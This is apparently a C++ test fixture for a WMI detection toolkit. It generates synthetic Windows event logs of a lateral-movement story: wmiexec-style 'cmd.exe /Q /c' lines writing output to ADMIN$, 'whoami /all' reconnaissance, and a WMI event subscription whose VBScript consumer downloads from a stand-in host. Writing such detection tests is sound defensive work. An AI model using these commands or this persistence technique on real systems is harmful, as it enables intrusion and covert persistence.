// SPDX-License-Identifier: Apache-2.0
//
// The server: SRV02, 192.0.2.20, which the attack reaches over WMI and where it stays.
#include "tests/example_story.h"

#include "base/format.h"

namespace wmiscope::testkit {
namespace {

constexpr std::string_view kServer = "SRV02.example.org";
constexpr std::string_view kDeploy = "EXAMPLE\\svc-deploy";
constexpr std::string_view kDeploySid = "S-1-5-21-3623811015-3361044348-30300820-1107";
constexpr std::string_view kHost = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
constexpr std::string_view kHostLine =
    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding";
constexpr std::string_view kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view kConsumer = "C:\\Windows\\System32\\wbem\\scrcons.exe";
constexpr std::string_view kConsumerLine = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding";
constexpr std::string_view kServices = "C:\\Windows\\System32\\svchost.exe";
constexpr std::string_view kConsumerBegan = "09:27:15.9020000";
constexpr std::uint64_t kWmicLogon = 0x8a4f31;
constexpr std::uint64_t kShellLogon = 0x8b2207;
constexpr std::uint64_t kNetworkService = 0x3e4;

// The session of the shell: each command's output goes into a file on the share.
struct ShellCommand {
  std::string_view clock;
  std::string_view command;
  std::uint32_t pid;
};
constexpr ShellCommand kShell[] = {{"09:20:03.1180000", "cd \\", 5208},
                                   {"09:20:11.4420000", "whoami /all", 5232}};
constexpr std::string_view kOutput = "__1793697602.4471";

std::string shell_line(const ShellCommand& c) {
  return format("cmd.exe /Q /c {} 1> \\\\127.0.0.1\\ADMIN$\\{} 2>&1", c.command, kOutput);
}

EventBuilder child(std::string_view image, std::string_view command_line, std::uint32_t pid) {
  return sysmon_1()
      .image(image)
      .command_line(command_line)
      .process_id(pid)
      .user(kDeploy)
      .parent(kHost, kHostLine, 2724)
      .data("IntegrityLevel", "High");
}

EventBuilder system_process(std::string_view image, std::string_view command_line) {
  return sysmon_1()
      .image(image)
      .command_line(command_line)
      .user("NT AUTHORITY\\SYSTEM")
      .logon(0x3e7, "2026-11-01T04:00:00Z")
      .data("IntegrityLevel", "System")
      .parent("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 716);
}

void server_work(ExampleLog& log, int hour) {
  const auto at = [&](int minute) { return format("{:02}:{:02}:31.0870000", hour, minute); };
  log.add(at(1), system_process(kServices, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"));
  log.add(at(2), sysmon_7().image(kServices).data("ImageLoaded",
                                                  "C:\\Windows\\System32\\wbem\\fastprox.dll"));
  log.add(at(3), sysmon_3().data("Initiated", "false").data("DestinationPort", "445"));
  log.add(at(4), system_process("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"));
  log.add(at(5),
          sysmon_11().image(kServices).data("TargetFilename", "C:\\Windows\\Temp\\wct1A2.tmp"));
  log.add(at(6), sysmon_5().image("C:\\Windows\\System32\\taskhostw.exe"));
  log.add(at(7), sysmon_13().data("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\x"));
  // Servicing asks WMI to start its host: a known harmless child.
  log.add(at(8), system_process("C:\\Windows\\Temp\\4F1A\\dismhost.exe",
                                "C:\\Windows\\TEMP\\4F1A\\dismhost.exe {7A4D}")
                     .parent(kHost, kHostLine, 2724));
}

void subscription(ExampleLog& log) {
  log.add("09:26:14.2030000",
          sysmon_19()
              .user(kDeploy)
              .data("Name", " \"Updater\"")
              .query(" \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance "
                     "ISA 'Win32_PerfFormattedData_PerfOS_System'\""));
  log.add("09:26:15.0110000",
          sysmon_20()
              .user(kDeploy)
              .data("Name", " \"UpdaterScript\"")
              .data("Type", "Script")
              .data("Destination",
                    " \"Set x = CreateObject(\\\"MSXML2.XMLHTTP\\\")\\nx.Open \\\"GET\\\", "
                    "\\\"http://files.example.org/b\\\", False\\nx.Send\\n\""));
  log.add("09:26:15.6740000",
          sysmon_21()
              .user(kDeploy)
              .data("Consumer",
                    " \"\\\\\\\\.\\\\ROOT\\\\subscription:ActiveScriptEventConsumer."
                    "Name=\\\"UpdaterScript\\\"\"")
              .data("Filter",
                    " \"\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter."
                    "Name=\\\"Updater\\\"\""));
  log.add(kConsumerBegan,
          system_process(kConsumer, kConsumerLine)
              .process_id(5560)
              .original_file_name("scrcons.exe")
              .parent(kServices, "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", 864));
  log.add("09:27:16.1330000", sysmon_7()
                                  .image(kConsumer)
                                  .process_id(5560)
                                  .process_began(on_the_day(kConsumerBegan))
                                  .data("ImageLoaded", "C:\\Windows\\System32\\vbscript.dll"));
  log.add("09:27:16.8850000", sysmon_3()
                                  .image(kConsumer)
                                  .process_id(5560)
                                  .process_began(on_the_day(kConsumerBegan))
                                  .user("NT AUTHORITY\\SYSTEM")
                                  .source("192.0.2.20", 50233)
                                  .data("SourceHostname", kServer)
                                  .data("DestinationIp", "198.51.100.7")
                                  .data("DestinationPort", "80"));
}

EventBuilder server_logon(std::string_view account, std::string_view account_sid,
                          std::uint64_t logon_id) {
  return security_4624().data("TargetUserSid", account_sid).user(account).logon(logon_id);
}

EventBuilder started(std::string_view image, std::string_view command_line, std::uint32_t pid) {
  return security_4688_v2()
      .subject("EXAMPLE\\SRV02$", "S-1-5-20", kNetworkService)
      .image(image)
      .command_line(command_line)
      .process_id(pid);
}

EventBuilder share_access(std::string_view file, std::string_view mask) {
  return security_5145()
      .subject(kDeploy, kDeploySid, kShellLogon)
      .source("192.0.2.11", 49802)
      .data("ShareName", "\\\\*\\ADMIN$")
      .data("ShareLocalPath", "\\??\\C:\\Windows")
      .data("RelativeTargetName", file)
      .data("AccessMask", mask);
}

void ordinary_audit(ExampleLog& log, int hour) {
  const auto at = [&](int minute) { return format("{:02}:{:02}:58.3310000", hour, minute); };
  log.add(at(1), server_logon("NT AUTHORITY\\SYSTEM", "S-1-5-18", 0x3e7).data("LogonType", "5"));
  log.add(at(1), security_4672());
  log.add(at(2), started(kServices, "C:\\Windows\\system32\\svchost.exe -k wsappx -p", 6012)
                     .parent("C:\\Windows\\System32\\services.exe", "", 716));
  log.add(at(4), server_logon("EXAMPLE\\BACKUP01$", "S-1-5-21-3623811015-3361044348-30300820-1044",
                              0x7f0011)
                     .source("192.0.2.30", 51200));
  log.add(at(5), security_5145().source("192.0.2.30", 51200));
  log.add(at(6), security_4634().user("EXAMPLE\\BACKUP01$").logon(0x7f0011));
}

void over_wmic(ExampleLog& log) {
  log.add("09:16:40.7910000",
          server_logon(kDeploy, kDeploySid, kWmicLogon).source("192.0.2.11", 49790));
  log.add("09:16:40.7920000", security_4672().subject(kDeploy, kDeploySid, kWmicLogon));
  log.add("09:16:41.1040000", started(kPowerShell, kEncodedDownload, 5104)
                                  .user(kDeploy)
                                  .logon(kWmicLogon)
                                  .parent(kHost, "", 2724)
                                  .data("MandatoryLabel", "S-1-16-12288"));
}

void shell_session(ExampleLog& log) {
  for (const std::string_view clock :
       {"09:20:02.5100000", "09:20:02.6330000", "09:20:02.8040000"}) {
    log.add(clock, server_logon(kDeploy, kDeploySid, kShellLogon)
                       .source("192.0.2.11", 49802)
                       .data("LogonProcessName", "NtLmSsp ")
                       .data("AuthenticationPackageName", "NTLM")
                       .data("LmPackageName", "NTLM V2"));
  }
  for (const ShellCommand& c : kShell) {
    log.add(c.clock, started(kCmd, shell_line(c), c.pid)
                         .user(kDeploy)
                         .logon(kShellLogon)
                         .parent(kHost, "", 2724)
                         .data("MandatoryLabel", "S-1-16-12288"));
  }
  log.add("09:20:12.0010000", share_access(kOutput, "0x1"));
  log.add("09:20:12.0640000", share_access(kOutput, "0x10080"));
  log.add("09:27:15.9040000", started(kConsumer, kConsumerLine, 5560)
                                  .subject("EXAMPLE\\SRV02$", "S-1-5-18", 0x3e7)
                                  .parent(kServices, "", 864));
  log.add("09:31:00.4510000", security_4634().user(kDeploy).logon(kShellLogon));
}

EventBuilder updater_binding() {
  return wmi_5861()
      .data("ESS", "Updater")
      .data("CONSUMER", "ActiveScriptEventConsumer=\"UpdaterScript\"")
      .data("PossibleCause",
            "Binding EventFilter: \ninstance of __EventFilter\n{\n\tEventNamespace = "
            "\"root\\\\cimv2\";\n\tName = \"Updater\";\n\tQuery = \"SELECT * FROM "
            "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System'\";\n\tQueryLanguage = \"WQL\";\n};\n"
            "Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{\n\tName = "
            "\"UpdaterScript\";\n\tScriptingEngine = \"VBScript\";\n\tScriptText = \"Set x = "
            "CreateObject(\\\"MSXML2.XMLHTTP\\\")\";\n};\n");
}

}  // namespace

ExampleFile server_sysmon() {
  ExampleLog log("SRV02-Sysmon.evtx", std::string(kServer), 77310);
  server_work(log, 8);
  log.add(
      "09:16:41.1040000",
      child(kPowerShell, kEncodedDownload, 5104).logon(kWmicLogon, on_the_day("09:16:40.7910000")));
  for (const ShellCommand& c : kShell) {
    log.add(c.clock, child(kCmd, shell_line(c), c.pid)
                         .original_file_name("Cmd.Exe")
                         .logon(kShellLogon, on_the_day("09:20:02.8040000")));
  }
  log.add("09:20:11.5160000",
          child("C:\\Windows\\System32\\whoami.exe", "whoami  /all", 5240)
              .logon(kShellLogon, on_the_day("09:20:02.8040000"))
              .parent(kCmd, shell_line(kShell[1]), kShell[1].pid, on_the_day(kShell[1].clock)));
  subscription(log);
  server_work(log, 10);
  return log.write();
}

ExampleFile server_security() {
  ExampleLog log("SRV02-Security.evtx", std::string(kServer), 310'450);
  ordinary_audit(log, 8);
  over_wmic(log);
  shell_session(log);
  ordinary_audit(log, 10);
  return log.write();
}

ExampleFile server_wmi_activity() {
  ExampleLog log("SRV02-WMI-Activity.evtx", std::string(kServer), 2201);
  const auto local = [](EventBuilder e) { return e.data("ClientMachine", "SRV02"); };
  log.add("04:00:02.1000000", wmi_5857());
  log.add("04:00:03.4420000", wmi_5859());
  log.add("04:00:03.4510000", wmi_5861());  // the default pair of every Windows
  log.add("04:00:09.0000000", local(wmi_5860()));
  log.add("08:12:45.9100000", local(wmi_5858()));
  log.add("09:15:21.2040000", wmi_5858()
                                  .data("ClientMachine", "WS01")
                                  .user("EXAMPLE\\anna")
                                  .process_id(7644)
                                  .data("Operation",
                                        "Start IWbemServices::ExecQuery - root\\cimv2 : "
                                        "SELECT Caption FROM Win32_OperatingSystem")
                                  .data("ResultCode", "0x80041032"));
  log.add("09:24:48.3300000",
          wmi_5860()
              .user(kDeploy)
              .process_id(5104)
              .data("ClientMachine", "SRV02")
              .query("SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "
                     "'Win32_LogonSession'"));
  log.add("09:26:15.6810000", updater_binding());
  log.add("09:26:15.7020000",
          wmi_5859()
              .query("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                     "'Win32_PerfFormattedData_PerfOS_System'")
              .data("User", kDeploySid)
              .data("Provider", "WMIProv"));
  log.add("09:27:16.0420000",
          wmi_5857()
              .data("ProviderName", "ActiveScriptEventConsumer")
              .data("HostProcess", "scrcons.exe")
              .data("ProcessID", "5560")
              .data("ProviderPath", "C:\\Windows\\system32\\wbem\\scrcons.exe"));
  log.add("10:30:00.0100000", local(wmi_5858()));
  return log.write();
}

}  // namespace wmiscope::testkit
